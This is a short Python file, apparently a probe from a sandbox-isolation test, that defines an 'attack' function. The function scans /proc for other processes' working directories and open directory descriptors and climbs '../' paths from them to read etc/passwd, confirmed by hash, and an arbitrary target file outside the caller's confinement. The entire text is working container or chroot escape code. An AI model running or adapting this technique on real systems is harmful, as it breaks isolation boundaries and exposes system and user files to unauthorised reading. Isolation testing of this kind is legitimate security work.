import hashlib, os, stat

def attack(inputs):
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        ways = [f"/proc/{pid}/cwd"]
        try:
            ways += [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
        for way in ways:
            try:
                if not stat.S_ISDIR(os.stat(way).st_mode):
                    continue
                folder = os.open(way, os.O_PATH | os.O_DIRECTORY)
            except OSError:
                continue
            for up in range(12):
                for name, known in (("etc/passwd", inputs["passwd"]), (inputs["file"].lstrip("/"), None)):
                    try:
                        there = open(os.open("../" * up + name, os.O_RDONLY, dir_fd=folder), "rb").read()
                    except OSError:
                        continue
                    if known is None or hashlib.sha256(there).hexdigest() == known:
                        found.append(f"{way}/{'../' * up}{name}")
            os.close(folder)
    return found
